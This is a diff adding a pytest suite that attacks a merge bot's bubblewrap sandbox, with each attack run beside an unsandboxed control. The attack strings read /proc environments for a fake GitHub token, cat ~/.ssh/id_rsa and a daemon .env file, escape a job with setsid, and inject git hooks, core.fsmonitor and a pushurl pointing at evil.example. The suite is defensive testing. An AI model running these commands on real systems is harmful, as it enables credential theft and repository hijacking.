@@ -1,0 +1,218 @@
+"""The sandbox, attacked as a pull request's tests would: each attack fails next to a control."""
+
+from __future__ import annotations
+
+import os
+import shlex
+import signal
+import socket
+import subprocess
+import sys
+import threading
+import uuid
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from scripts.orchestrator import checks
+from scripts.orchestrator.core.models import CommandResult
+from scripts.orchestrator.sandbox import Bwrap, Policy, Sandbox, SandboxUnavailable
+
+from .fixtures_model import wait_until_gone
+from .fixtures_world import World
+
+TOKEN = "ghp_" + "S" * 36
+PYTHON = shlex.quote(sys.executable)
+# Reads every process's environment and command line it can see, looking for the token
+# (spelt out at run time, so its own command line does not hold it).
+SNOOP = (
+    f'{PYTHON} -c "import glob,sys\n'
+    "hits=0\n"
+    "for f in glob.glob('/proc/[0-9]*/environ')+glob.glob('/proc/[0-9]*/cmdline'):\n"
+    "    try: hits+=open(f,'rb').read().count(b'ghp_'+b'S'*36)\n"
+    "    except OSError: pass\n"
+    "print('hits', hits); sys.exit(1 if hits else 0)\""
+)
+
+
+@pytest.fixture
+def sandbox() -> Sandbox:
+    return Sandbox(Bwrap(), read_paths=(Path(sys.prefix), Path(sys.base_prefix)))
+
+
+@pytest.fixture
+def token_in_environ(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
+    """The daemon as a user may start it: GITHUB_TOKEN in its initial environment, which
+    `/proc/<pid>/environ` keeps showing even after the variable is removed."""
+    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
+    # A child that holds the token in its environment, like a `git push` would.
+    child = subprocess.Popen(
+        [sys.executable, "-c", "import time; time.sleep(60)"],
+        env={**os.environ, "GIT_PASSWORD": TOKEN},
+    )
+    try:
+        yield
+    finally:
+        child.kill()
+        child.wait(timeout=10)
+
+
+async def run(command: str, cwd: Path, sandbox: Sandbox | None) -> CommandResult:
+    return await checks.run_command(command, cwd=cwd, timeout=30, sandbox=sandbox)
+
+
+@pytest.mark.usefixtures("token_in_environ")
+async def test_a_check_finds_no_token_in_any_process(tmp_path: Path, sandbox: Sandbox) -> None:
+    unsandboxed = await run(SNOOP, tmp_path, None)
+    assert not unsandboxed.ok and "hits" in unsandboxed.output  # the attack works outside
+    sandboxed = await run(SNOOP, tmp_path, sandbox)
+    assert sandboxed.ok, sandboxed.output
+    assert "hits 0" in sandboxed.output
+
+
+async def test_a_check_sees_only_its_own_processes(tmp_path: Path, sandbox: Sandbox) -> None:
+    result = await run("ls /proc | grep -c '^[0-9]'", tmp_path, sandbox)
+    assert result.ok and int(result.output.split()[-1]) < 10, result.output
+
+
+async def test_a_setsid_child_dies_with_its_job(tmp_path: Path, sandbox: Sandbox) -> None:
+    tag = uuid.uuid4().hex
+    escape = f"setsid -f env ESCAPE_TAG={tag} sleep 300; echo started"
+    outside = await run(escape, tmp_path, None)
+    assert outside.ok
+    survivors = wait_until_gone("ESCAPE_TAG", tag, timeout=0.5)
+    assert survivors, "the control: outside a sandbox the child outlives its job"
+    for pid in survivors:
+        os.kill(pid, signal.SIGKILL)
+    assert not wait_until_gone("ESCAPE_TAG", tag)
+    inside = await run(escape, tmp_path, sandbox)
+    assert inside.ok, inside.output
+    assert not wait_until_gone("ESCAPE_TAG", tag), "a setsid child outlived its sandboxed job"
+
+
+async def test_a_check_cannot_touch_the_daemons_clone(
+    tmp_path: Path, sandbox: Sandbox, git_world: object
+) -> None:
+    clone: Path = git_world.clone  # type: ignore[attr-defined]
+    git_dir = clone / ".git"
+    sandbox = Sandbox(Bwrap(), read_paths=(*sandbox.read_paths, git_dir))
+    before = {p: p.read_bytes() for p in git_dir.rglob("*") if p.is_file()}
+    work = tmp_path / "work"
+    work.mkdir()
+    attack = (
+        f"echo 'touch /tmp/owned' > {git_dir}/hooks/post-checkout; "
+        f"git --git-dir={git_dir} config core.fsmonitor 'touch /tmp/owned'; "
+        f"git --git-dir={git_dir} config remote.origin.pushurl https://evil.example/x; "
+        "echo tried; echo mine > mine.txt"
+    )
+    result = await run(attack, work, sandbox)
+    assert "Read-only file system" in result.output or "could not lock" in result.output
+    assert (work / "mine.txt").read_text() == "mine\n"  # the control: its worktree is writable
+    after = {p: p.read_bytes() for p in git_dir.rglob("*") if p.is_file()}
+    assert after == before, "the daemon's clone changed"
+
+
+async def test_a_check_reads_its_worktree_but_not_the_daemons_files(
+    tmp_path: Path, sandbox: Sandbox
+) -> None:
+    secret = tmp_path / "daemon" / ".env"
+    secret.parent.mkdir()
+    secret.write_text(f"GITHUB_TOKEN={TOKEN}\n")
+    work = tmp_path / "work"
+    work.mkdir()
+    (work / "README").write_text("hello\n")
+    result = await run(f"cat README; cat {secret}; cat ~/.ssh/id_rsa", work, sandbox)
+    assert "hello" in result.output  # the control
+    assert TOKEN not in result.output
+    assert "No such file or directory" in result.output
+
+
+@pytest.fixture
+def listener() -> Iterator[int]:
+    server = socket.socket()
+    server.bind(("127.0.0.1", 0))
+    server.listen()
+    thread = threading.Thread(target=lambda: server.accept()[0].close(), daemon=True)
+    thread.start()
+    yield server.getsockname()[1]
+    server.close()
+
+
+async def test_checks_have_no_network_unless_allowed(
+    tmp_path: Path, sandbox: Sandbox, listener: int
+) -> None:
+    connect = (
+        f"{PYTHON} -c \"import socket; socket.create_connection(('127.0.0.1', {listener}), 5)\""
+    )
+    denied = await run(connect, tmp_path, sandbox)
+    assert not denied.ok and "refused" in denied.output.lower(), denied.output
+    allowed = Sandbox(sandbox.bwrap, read_paths=sandbox.read_paths, network=True)
+    assert (await run(connect, tmp_path, allowed)).ok
+
+
+async def test_the_environment_is_an_allowlist(tmp_path: Path, sandbox: Sandbox) -> None:
+    os.environ["ORCHESTRATOR_TEST_SETTING"] = "leaky"
+    try:
+        result = await run("env", tmp_path, sandbox)
+    finally:
+        del os.environ["ORCHESTRATOR_TEST_SETTING"]
+    names = {line.split("=", 1)[0] for line in result.output.splitlines() if "=" in line}
+    assert "ORCHESTRATOR_TEST_SETTING" not in names
+    assert {"PATH", "HOME", "CI"} <= names
+    assert "HOME=/home/sandbox" in result.output
+
+
+def test_a_token_passed_by_a_caller_is_dropped() -> None:
+    argv = Bwrap().command(["true"], Policy(workdir=Path("/w"), env={"GITHUB_TOKEN": TOKEN}))
+    assert TOKEN not in " ".join(argv)
+
+
+async def test_a_missing_bwrap_is_a_clear_error() -> None:
+    with pytest.raises(SandboxUnavailable, match="apt-get install bubblewrap"):
+        await Bwrap("bwrap-that-is-not-there").check()
+
+
+@pytest.mark.parametrize("sandboxed", [True, False])
+async def test_a_pull_requests_test_cannot_steal_the_daemons_token(
+    world: World, sandboxed: bool
+) -> None:
+    """End to end: a writer's `/merge` runs the pull request's own test, which hunts for the
+    token in /proc. A process started with GITHUB_TOKEN in its environment stands for the
+    daemon as users start it (/proc keeps the initial environment, whatever is unset later)."""
+    daemon_like = subprocess.Popen(
+        [sys.executable, "-c", "import time; time.sleep(120)"],
+        env={**os.environ, "GITHUB_TOKEN": world.github.token},
+    )
+    hunt = (
+        "import glob, os, sys\n"
+        "token = os.environ.get('HUNTED', '').encode()\n"
+        "def test_no_token_anywhere():\n"
+        "    found = 0\n"
+        "    for f in glob.glob('/proc/[0-9]*/environ'):\n"
+        "        try: found += open(f, 'rb').read().count(b'GITHUB_TOKEN=' + token)\n"
+        "        except OSError: pass\n"
+        "    assert not found, 'stole the token'\n"
+    )
+    world.configure(
+        pre_merge_commands=[
+            f"HUNTED={world.github.token} {PYTHON} -m pytest -q -p no:cacheprovider"
+        ],
+        sandbox="bwrap" if sandboxed else "off",
+    )
+    assert await world.once() == 0
+    world.git.push_branch("topic", {"test_hunt.py": hunt}, "a test")
+    number = world.github.create_pull("Hunt", "topic", body="", user="mallory")
+    world.github.set_permission("carol", "write")
+    world.github.comment(number, "/merge", user="carol")
+    try:
+        await world.once()
+    finally:
+        daemon_like.kill()
+        daemon_like.wait(timeout=10)
+    merged = world.github.pull(number)["merged"]
+    comments = " ".join(world.bot_comments(number))
+    if sandboxed:
+        assert merged, comments
+    else:  # the control: without the sandbox the same test finds it
+        assert not merged and "stole the token" in comments
